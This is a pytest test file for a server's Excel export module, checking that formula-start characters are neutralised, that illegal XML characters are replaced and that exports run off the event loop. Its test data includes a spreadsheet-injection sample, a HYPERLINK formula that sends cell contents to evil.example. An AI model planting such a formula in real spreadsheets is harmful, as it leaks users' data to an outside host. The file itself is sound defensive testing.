"""The one Excel module against hostile content: exports write text as text with formula starts
neutralised and unwritable characters replaced, built off the event loop."""

from __future__ import annotations

import io
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from server.core import xlsx
from tests.xlsx_helpers import Gate

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# (written, what the cell holds)
TEXTS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\r=1+1", "'\n=1+1"),  # XML reads a CR back as LF
    ("=", "'="),
    ("#N/A", "#N/A"),  # an error code as text, not an error cell
    ("a=1", "a=1"),
    (" =1", " =1"),
    ("'=1", "''=1"),  # one more, so that reading it strips exactly one
    ("'s", "''s"),
    ("iPhone 15 屏幕", "iPhone 15 屏幕"),
    ("", None),
]


def cells_of(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def test_text_is_written_as_text_with_formula_starts_neutralised():
    rows = [[written, 7, Decimal("12.5000"), None] for written, _ in TEXTS]
    data = xlsx.workbook_bytes("货品", ["=名称", "数量", "金额", "空"], rows)
    cells = cells_of(data)
    assert [c.value for c in cells[0]] == ["'=名称", "数量", "金额", "空"]
    assert [c.data_type for c in cells[0]] == ["s"] * 4
    assert all(c.font.bold for c in cells[0])
    assert not any(c.data_type in ("f", "e") for row in cells for c in row)
    for (written, held), row in zip(TEXTS, cells[1:], strict=True):
        assert row[0].value == held, written
        if held is not None:
            assert row[0].data_type == "s", written
        # numbers stay numbers
        assert (row[1].value, row[1].data_type) == (7, "n")
        assert (row[2].value, row[2].data_type) == (12.5, "n")
        assert row[3].value is None


def test_characters_xml_cannot_hold_become_replacement_characters():
    """A stored "\\x08" must not make the export fail (openpyxl raises IllegalCharacterError)."""
    data = xlsx.workbook_bytes("表\x07", ["名\x00称"], [["a\x08b"], ["\x1b=1"], ["\x0c\x0b"], ["tab\tlf\ncr\r"]])
    assert [[c.value for c in row] for row in cells_of(data)] == [
        ["名\ufffd称"],
        ["a\ufffdb"],
        ["\ufffd=1"],  # no longer starts with "=": nothing to neutralise
        ["\ufffd\ufffd"],
        ["tab\tlf\ncr\n"],  # tab, LF and CR are legal in a cell (XML reads a CR back as LF)
    ]


async def test_exports_are_built_off_the_event_loop(monkeypatch):
    built = Gate(monkeypatch, Workbook, "save")
    built.release()
    response = await xlsx.xlsx_response("货品.xlsx", "货品", ["名称"], iter([["x"]]))
    assert built.on_loop == [False]
    assert [c.value for c in cells_of(response.content)[1]] == ["x"]
